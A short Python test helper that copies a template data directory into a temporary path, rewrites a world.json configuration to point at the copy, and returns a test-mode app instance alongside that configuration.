def copy_world(tmp_path_factory, name: str) -> tuple[Any, dict[str, Any]]:  # noqa: ANN001
    """A private copy of the world: its app and what is in it."""
    source = template(tmp_path_factory)
    target = tmp_path_factory.mktemp(name)
    shutil.copytree(source / "data", target / "data")
    world = json.loads((source / "world.json").read_text(encoding="utf-8"))
    world["data"] = str(target / "data")
    url = servers.on_the_test_backend(target / "data", source / "data")
    return create_app({"TESTING": True, "DATA": str(target / "data"), "DATABASE_URL": url}), world
